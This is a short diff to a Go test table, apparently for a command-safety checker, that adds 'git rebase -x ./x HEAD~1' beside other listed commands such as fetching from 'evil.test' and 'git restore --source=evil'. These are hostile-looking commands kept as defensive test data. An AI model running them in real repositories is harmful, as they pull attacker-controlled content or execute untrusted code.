@@ -62,6 +62,7 @@ func TestKnownCommandsThatWriteUnseenNames(t *testing.T) {
 		"git fetch https://evil.test/x.git a:b": run,
 		"git submodule add https://evil.test/x": run,
 		"git reset --hard FETCH_HEAD":           run,
+		"git rebase -x ./x HEAD~1":              run,
 		"git merge FETCH_HEAD":                  run,
 		"git restore --source=evil .":           run,
 		"cp -r x/. .":                           run,
